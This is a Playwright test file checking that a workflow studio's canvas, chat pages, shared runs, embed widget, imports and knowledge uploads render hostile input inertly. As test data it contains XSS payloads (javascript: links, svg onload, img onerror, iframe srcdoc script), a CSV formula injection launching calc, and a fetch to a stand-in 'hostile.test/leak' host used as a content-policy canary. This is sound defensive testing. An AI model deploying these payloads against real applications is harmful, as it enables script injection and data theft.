import { randomUUID } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { buildWorkflow } from "../src/engine/testing/build-workflow.ts";
import { ask, canvasReady, expect, runEnded, runsStored, saved, test, widePanel } from "./fixtures.ts";
import { signInAsGuest } from "./guest.ts";
import { findHarm, hostileName, hostileText, override } from "./hostile-text.ts";
import { callsAsPage, openDoor, publishOpened } from "./published-runs.ts";
import { refuseReply, sayReply } from "./servers/openai-reply.ts";

/** What a page asked of the addresses that hostile text names. */
function watch(page: Page): string[] {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (/hostile\.test|\/x$/.test(request.url())) asked.push(request.url());
  });
  page.on("dialog", (dialog) => void dialog.dismiss());
  return asked;
}

/** Text that is really there, and does nothing. */
async function inert(page: Page, place: string, shown: string | RegExp = "onerror=window.owned"): Promise<void> {
  await expect.soft(page.locator("body"), place).toContainText(shown, { timeout: 10_000 });
  expect.soft(await findHarm(page), place).toEqual([]);
}

const file = (name: string, text: string, mimeType = "text/plain") => ({ name, mimeType, buffer: Buffer.from(text) });

test("S36 S47 nothing that the studio shows of others runs, fetches or changes the page @rest", async ({
  page,
  vendor,
}) => {
  const asked = watch(page);
  await widePanel(page);
  const guest = await signInAsGuest(page);
  const credential = await guest.credentialFor(vendor.baseUrl, { name: hostileName, apiKey: vendor.key });
  const workflow = {
    ...buildWorkflow({
      name: hostileName,
      nodes: {
        chat: ["chat-trigger", {}, `${hostileName} 1`],
        agent: ["ai-agent", { systemPrompt: hostileText.replaceAll("{{", "{ {") }, `${hostileName} 2`],
        model: ["openai-compatible-model", { model: "gpt-4o-mini", credential }, `${hostileName} 3`],
        memory: ["window-memory", {}, `${hostileName} 4`],
        code: ["code-tool", { code: `throw new Error(${JSON.stringify(hostileText)})` }, `${hostileName} 5`],
        note: ["sticky-note", { text: hostileText }, `${hostileName} 6`],
      },
      edges: [
        "chat.main -> agent.main",
        "model.model -> agent.model",
        "memory.memory -> agent.memory",
        "code.tool -> agent.tools",
      ],
    }),
    id: randomUUID(),
  };
  const address = await guest.addressOf(workflow);
  await page.goto("/");
  await inert(page, "the library");
  await page.goto(address);
  await canvasReady(page);
  await inert(page, "the canvas");

  await page.getByRole("button", { name: "Test", exact: true }).click();
  const log = page.getByRole("log");
  vendor.enqueue(
    sayReply("", {
      reasoning: hostileText,
      calls: [{ name: "nothing_of_the_kind", arguments: `{"a":${JSON.stringify(hostileText)}}` }],
    }),
    sayReply(hostileText, {
      reasoning: hostileText,
      pages: [
        { title: hostileName, url: "javascript:window.owned=1" },
        { title: hostileName, url: `https://hostile.test/${encodeURIComponent(hostileName)}` },
      ],
    }),
  );
  await page
    .getByLabel("Files to attach")
    .setInputFiles(file(`${hostileName.replaceAll("/", "")}.pdf`, "%PDF-1.7", "application/pdf"));
  await inert(page, "an attached file");
  await ask(page, hostileText);
  await expect(log.getByRole("list", { name: "Web sources" })).toBeVisible();
  await runEnded(page);
  await inert(page, "the chat");
  for (const link of ["script link", "data link", "entity link"])
    await log.getByText(link, { exact: true }).last().click();
  vendor.enqueue(refuseReply(400, { message: hostileText }));
  await ask(page, "Say something wrong.");
  await runEnded(page);
  await inert(page, "an error of the vendor");
  await saved(page);
  await runsStored(page);

  await page.getByRole("tab", { name: "Run", exact: true }).click();
  for (const view of ["Steps", "Waterfall", "Logs"]) {
    await page.getByRole("tab", { name: view, exact: true }).click();
    const options = page.getByRole("tabpanel", { name: view }).locator('[role="option"]');
    for (let at = 0; at < (await options.count()); at += 1) {
      await options.nth(at).click();
      expect.soft(await findHarm(page), `${view}, line ${at + 1}`).toEqual([]);
    }
  }
  await page.getByRole("tab", { name: "Memory" }).click();
  await page
    .getByRole("list", { name: /^Conversations/ })
    .getByRole("button")
    .first()
    .click();
  await inert(page, "the memory");

  await publishOpened(page, { address: "hostile-text", note: hostileName });
  await openDoor(page, "Chat page");
  await inert(page, "publishing");
  await page.keyboard.press("Escape");

  await page.goto("/credentials");
  await inert(page, "the credentials");
  await page.goto("/runs");
  await inert(page, "the runs");
  await page.getByRole("list", { name: "Stored runs" }).getByRole("link").last().click();
  await expect(page.getByRole("slider", { name: "Position in the run" })).toBeVisible();
  await inert(page, "a run");
  await page.getByRole("button", { name: "Share", exact: true }).click();
  const sharing = page.getByRole("dialog", { name: "Share this run" });
  for (const part of ["Prompts and settings", "Tool calls and data", "Files"]) {
    const shared = sharing.getByRole("switch", { name: part });
    if (await shared.isVisible()) await shared.click();
  }
  await expect(sharing.getByRole("region", { name: "Preview" })).toContainText("onerror");
  await inert(page, "what is shared of a run");
  await page.keyboard.press("Escape");
  await page.goto(`/activity/${workflow.id}`);
  await inert(page, "the activity");

  expect(asked).toEqual([]);
});

test("S76 S98 nothing runs on the pages of strangers: a published chat, and a shared run that was written by hand @rest", async ({
  page,
  browser,
  vendor,
}) => {
  const guest = await signInAsGuest(page);
  const credential = await guest.credentialFor(vendor.baseUrl, { apiKey: vendor.key });
  const workflow = buildWorkflow({
    name: hostileName,
    nodes: {
      chat: ["chat-trigger", {}, `${hostileName} 1`],
      agent: ["ai-agent", {}, `${hostileName} 2`],
      model: ["openai-compatible-model", { model: "gpt-4o-mini", credential }, `${hostileName} 3`],
    },
    edges: ["chat.main -> agent.main", "model.model -> agent.model"],
  });
  await page.goto(await guest.addressOf({ ...workflow, id: randomUUID() }));
  await canvasReady(page);
  await publishOpened(page, { address: "hostile-chat" });
  const door = await openDoor(page, "Chat page");
  await door.getByLabel("Title").fill(hostileName);
  await door.getByLabel("Welcome").fill(hostileText.slice(0, 490));
  await door.getByLabel("Suggested questions").fill(hostileName);
  await door.getByRole("button", { name: "Save chat page" }).click();
  await expect(page.getByText("Chat page saved")).toBeVisible();
  await door.getByRole("switch", { name: "Chat page" }).click();
  await expect(door.getByRole("link", { name: "Open" })).toBeVisible();
  await page.keyboard.press("Escape");
  const { origin } = new URL(page.url());

  const stranger = await (await browser.newContext()).newPage();
  const asked = watch(stranger);
  const problems: string[] = [];
  stranger.on("pageerror", (error) => problems.push(error.message));
  await stranger.goto(`${origin}/c/hostile-chat`);
  await expect(stranger.getByRole("heading", { level: 1 })).toContainText("onerror");
  await inert(stranger, "a chat page");
  vendor.enqueue(
    sayReply(hostileText, {
      pages: [
        { title: hostileName, url: "javascript:window.owned=1" },
        { title: hostileName, url: "https://hostile.test/page" },
      ],
    }),
  );
  await stranger.getByRole("textbox", { name: "Message" }).fill(hostileText);
  await stranger.getByRole("button", { name: "Send" }).click();
  await expect(stranger.getByRole("button", { name: "Good answer" }).last()).toBeVisible({ timeout: 90_000 });
  await inert(stranger, "an answer on a chat page");
  for (const link of ["script link", "data link"]) await stranger.getByText(link, { exact: true }).last().click();
  await inert(stranger, "a chat page whose links were clicked");

  const call = await callsAsPage(page);
  const run = { id: randomUUID(), workflowId: workflow.id, document: workflow, input: null, startedAt: Date.now() };
  const stored = { ...run, workflowId: new URL(page.url()).pathname.split("/").at(-1) ?? "" };
  await guest.runs.start(stored);
  const end = {
    status: "completed",
    output: null,
    error: null,
    totalTokens: 0,
    costUsd: null,
    endedAt: Date.now(),
  } as const;
  await guest.runs.finish(run.id, end);
  const parts = { prompts: true, data: true, files: true };
  const look = { role: "agent", title: hostileName, summary: hostileText, icon: hostileName, inputs: {}, outputs: {} };
  const event = (seq: number, body: object) => ({ runId: "shared", seq, at: seq, ...body });
  const share = async (snapshot: object): Promise<string> => {
    const asked = { p_run_id: run.id, p_title: "x", p_parts: parts, p_snapshot: snapshot };
    return (JSON.parse(await call("studio_share_run", asked)) as { slug: string }).slug;
  };
  const snapshot = {
    version: 1,
    title: hostileName,
    parts,
    types: { [hostileName]: look, __proto__: look },
    nodes: [{ id: "a", type: hostileName, title: hostileName, line: hostileText, position: { x: 0, y: 0 } }],
    edges: [],
    events: [
      event(0, {
        type: "run-start",
        workflowId: "shared",
        workflowName: hostileName,
        input: {
          message: hostileText,
          images: [
            "javascript:window.owned=1",
            "data:image/svg+xml,<svg onload=window.owned=1>",
            "https://hostile.test/i.png",
          ],
        },
      }),
      event(1, { type: "node-start", nodeId: "a", input: hostileText }),
      event(2, { type: "node-end", nodeId: "a", output: { response: hostileText }, ports: ["main"], durationMs: 1 }),
      event(3, {
        type: "run-end",
        outcome: "completed",
        usage: { inputTokens: 1, outputTokens: 1 },
        costUsd: null,
        durationMs: 1,
        output: { response: hostileText },
      }),
    ],
  };
  await stranger.goto(`${origin}/s/${await share(snapshot)}`);
  await expect(stranger.getByRole("heading", { level: 1 })).toContainText("onerror");
  await inert(stranger, "a shared run");
  const broken = [
    [event(0, { type: "model-response" })],
    [event(0, { type: "run-start", workflowName: 1, input: { message: {} } }), event(1, { type: "tool-call-end" })],
    [event(0, { type: "run-end", output: { response: [] }, error: 5, outcome: "failed" })],
  ];
  for (const events of broken) {
    await stranger.goto(`${origin}/s/${await share({ ...snapshot, events })}`);
    await expect(stranger.getByRole("heading", { level: 1 })).toBeVisible();
  }
  const many = Array.from({ length: 30_000 }, (_, seq) =>
    event(seq, { type: "node-start", nodeId: `n${seq}`, input: 0 }),
  );
  await stranger.goto(`${origin}/s/${await share({ ...snapshot, events: many })}`);
  await expect(stranger.getByRole("button", { name: /^Show more of/ })).toBeVisible();
  expect(asked).toEqual([]);
  await stranger.context().close();
});

test("S36 S47 S76 nothing of others runs in the inbox, in settings, or beside the widget on another site @rest", async ({
  page,
  browser,
  studio,
  vendor,
}) => {
  const label = hostileName.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
  const shop = createServer((_request, response) => {
    response.setHeader("content-type", "text/html; charset=utf-8");
    response.end(`<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1>
      <script src="${studio.url}/widget.js" defer></script><switchyard-chat slug="hostile-inbox" label="${label}"></switchyard-chat>`);
  });
  await new Promise<void>((resolve) => shop.listen(0, "127.0.0.1", resolve));
  const site = `http://127.0.0.1:${(shop.address() as AddressInfo).port}`;
  const asked = watch(page);
  const guest = await signInAsGuest(page);
  const credential = await guest.credentialFor(vendor.baseUrl, { apiKey: vendor.key });
  const workflow = buildWorkflow({
    name: hostileName,
    nodes: {
      chat: ["chat-trigger", {}, `${hostileName} 1`],
      agent: ["ai-agent", {}, `${hostileName} 2`],
      model: ["openai-compatible-model", { model: "gpt-4o-mini", credential }, `${hostileName} 3`],
      tool: ["calculator-tool", { approval: "ask" }, `${hostileName} 4`],
    },
    edges: ["chat.main -> agent.main", "model.model -> agent.model", "tool.tool -> agent.tools"],
  });
  await page.goto(await guest.addressOf({ ...workflow, id: randomUUID() }));
  await canvasReady(page);
  await publishOpened(page, { address: "hostile-inbox" });

  const call = await callsAsPage(page);
  await call("studio_save_door", {
    p_workflow_id: new URL(page.url()).pathname.split("/").at(-1),
    p_kind: "chat",
    p_enabled: true,
    p_config: { title: hostileName.slice(0, 80), welcome: hostileText.slice(0, 490), sites: [site] },
    p_secrets: null,
  });
  const expression = JSON.stringify({ expression: hostileText });
  vendor.enqueue(sayReply("", { reasoning: hostileText, calls: [{ name: "calculator", arguments: expression }] }));
  await call("studio_start_run", {
    p_workflow: "hostile-inbox",
    p_target: "live",
    p_input: { message: hostileText },
  });
  await page.goto("/inbox");
  const card = page.getByRole("group", { name: /^Approve calculator/ });
  await expect(card).toBeVisible({ timeout: 30_000 });
  await inert(page, "the inbox");
  await card.getByRole("button", { name: "Write JSON" }).click();
  await inert(page, "the arguments of a call in the inbox");
  vendor.enqueue(sayReply(hostileText));
  await card.getByRole("button", { name: "Reject", exact: true }).click();
  await card.getByRole("textbox", { name: "Reason" }).fill(hostileText.slice(0, 400));
  await card.getByRole("button", { name: "Reject the call" }).click();
  await expect(card).toBeHidden();
  await inert(page, "the inbox after an answer", "rejected");

  await page.goto("/settings/api-keys");
  await page.getByRole("button", { name: "New API key" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox", { name: "Name" }).fill(hostileName);
  await dialog.getByRole("switch", { name: "Run all published workflows" }).click();
  await dialog.getByRole("checkbox", { name: "hostile-inbox" }).check();
  await inert(page, "a new API key", "hostile-inbox");
  await dialog.getByRole("button", { name: "Create key" }).click();
  await dialog.getByRole("button", { name: "Done" }).click();
  await inert(page, "the API keys");
  await page.goto("/settings");
  const everything = file(`${hostileName.replaceAll("/", "")}.json`, JSON.stringify({ [hostileName]: hostileText }));
  await page.getByLabel("File with all your work").setInputFiles(everything);
  await inert(page, "the settings", "Settings");

  const stranger = await (await browser.newContext()).newPage();
  const askedThere = watch(stranger);
  await stranger.goto(site);
  await stranger.getByRole("button", { name: /onerror/ }).click();
  const chat = stranger.frameLocator("iframe");
  await expect(chat.getByRole("heading", { level: 1 })).toContainText("onerror");
  vendor.enqueue(sayReply(hostileText));
  await chat.getByRole("textbox", { name: "Message" }).fill(hostileText);
  await chat.getByRole("button", { name: "Send" }).click();
  await expect(chat.getByRole("button", { name: "Good answer" }).last()).toBeVisible({ timeout: 90_000 });
  for (const frame of stranger.frames()) expect.soft(await findHarm(frame), frame.url()).toEqual([]);
  // Nothing of the frame, and nothing of the label, has become part of the site.
  const own = await stranger.evaluate(() => {
    const shadow = document.querySelector("switchyard-chat")?.shadowRoot;
    return { owned: "owned" in window, images: shadow?.querySelectorAll("img, svg[onload], script").length ?? 0 };
  });
  expect(own).toEqual({ owned: false, images: 0 });
  expect([...asked, ...askedThere]).toEqual([]);
  await stranger.context().close();
  await new Promise((resolve) => shop.close(resolve).closeAllConnections());
});

test("S36 S72 nothing of imports, documents and tests runs, and the policy holds where something would @rest", async ({
  page,
  failures,
}) => {
  const asked = watch(page);
  await signInAsGuest(page);
  await page.goto("/");
  await page.getByRole("button", { name: "Import", exact: true }).click();
  const dialog = page.getByRole("dialog", { name: "Import a workflow" });
  const foreign = buildWorkflow({
    name: hostileName,
    nodes: {
      start: ["manual-trigger", {}, `${hostileName} 1`],
      future: ["<svg/onload=window.owned=1>", { [hostileName]: hostileText }, `${hostileName} 2`],
      request: ["http-request", { url: `https://hostile.test/${hostileName}` }, `${hostileName} 3`],
      other: ["workflow-tool", { workflow: hostileName }, `${hostileName} 4`],
    },
    edges: ["start.main -> request.main"],
  });
  await dialog.locator("input[type=file]").setInputFiles(file("workflow.json", JSON.stringify(foreign)));
  await expect(dialog.getByRole("button", { name: "Import", exact: true })).toBeEnabled();
  await inert(page, "the report of an import");
  await dialog.getByRole("button", { name: "Import", exact: true }).click();
  await expect(page).toHaveURL(/\/w\//);
  await canvasReady(page);
  await inert(page, "what was imported");
  const review = page.getByRole("button", { name: "Review", exact: true });
  if (await review.isVisible()) {
    await review.click();
    await inert(page, "the review");
    await page.keyboard.press("Escape");
  }

  await page.goto("/");
  await page.getByRole("button", { name: "Import", exact: true }).click();
  const n8n = {
    name: hostileName,
    nodes: [
      {
        name: hostileName,
        type: `n8n-nodes-base.${hostileName}`,
        typeVersion: 1,
        position: [0, 0],
        parameters: { [hostileName]: hostileText },
      },
      {
        name: "Code",
        type: "n8n-nodes-base.code",
        typeVersion: 2,
        position: [1, 0],
        parameters: { jsCode: hostileText },
      },
    ],
    connections: {},
  };
  await dialog.locator("input[type=file]").setInputFiles(file("n8n.json", JSON.stringify(n8n)));
  await inert(page, "the report of a foreign import");
  await page.keyboard.press("Escape");

  await page.goto("/knowledge");
  await page.getByRole("button", { name: "New collection" }).click();
  const collection = page.getByRole("dialog", { name: "New collection" });
  await collection.getByRole("textbox", { name: "Name" }).fill(hostileName);
  await collection.getByRole("button", { name: "Create collection" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("onerror");
  await page
    .getByLabel("Files to add")
    .setInputFiles([
      file(`${hostileName}.md`, `# ${hostileName}\n\n${hostileText}`),
      file(`${hostileName}.html`, `<title>${hostileName}</title><h1>Words</h1><p>Words</p>${hostileText}`, "text/html"),
      file(`${hostileName}.csv`, `"${hostileName.replaceAll('"', '""')}",b\n=cmd|' /C calc'!A0,2\n`),
      file(`${hostileName}.pdf`, "no PDF", "application/pdf"),
    ]);
  const documents = page.getByRole("list", { name: "Documents", exact: true }).getByRole("listitem");
  await expect(documents).toHaveCount(3);
  await inert(page, "the documents of a collection");
  await documents.first().getByRole("link").first().click();
  await expect(page).toHaveURL(/\/documents\//);
  await inert(page, "a document");

  await page.goto("/tests");
  await page.getByRole("button", { name: "Import", exact: true }).click();
  const suite = page.getByRole("dialog", { name: "Import a suite" });
  const config = {
    description: hostileName,
    prompts: ["{{question}}"],
    tests: [
      {
        description: hostileName,
        vars: { question: hostileText },
        assert: [
          { type: "contains", value: hostileText },
          { type: hostileName, value: hostileText },
        ],
      },
    ],
  };
  await suite.getByLabel("Config file").setInputFiles(file("promptfooconfig.yaml", JSON.stringify(config)));
  await expect(suite.getByRole("status")).toContainText("1 case");
  await inert(page, "the report of imported tests");
  const imported = hostileName.replace(override, "\ufffd");
  await suite.getByRole("combobox", { name: "Workflow" }).selectOption({ label: imported });
  await suite.getByRole("button", { name: /^Create with/ }).click();
  await expect(page).toHaveURL(/\/tests\/./);
  await inert(page, "a suite");
  expect(asked).toEqual([]);

  // The second wall: what a mistake would let into the page does not run either.
  const ran = await page.evaluate(async () => {
    const place = document.createElement("div");
    place.innerHTML =
      "<img src=x onerror=window.canary=1><svg onload=window.canary=2></svg><iframe srcdoc='<script>parent.canary=3</script>'></iframe>";
    document.body.append(place);
    const script = document.createElement("script");
    script.textContent = "window.canary=4";
    document.body.append(script);
    const link = document.createElement("a");
    link.href = "javascript:window.canary=5";
    document.body.append(link);
    link.click();
    const foreign = document.createElement("script");
    foreign.src = "https://hostile.test/script.js";
    const loaded = new Promise((resolve) => {
      foreign.addEventListener("load", () => resolve("load"));
      foreign.addEventListener("error", () => resolve("error"));
    });
    document.body.append(foreign);
    const sent = await fetch("https://hostile.test/leak").then(
      () => "sent",
      () => "refused",
    );
    return { canary: Reflect.get(window, "canary") as unknown, foreign: await loaded, sent };
  });
  expect(ran).toEqual({ canary: undefined, foreign: "error", sent: "refused" });
  failures.splice(0);
});
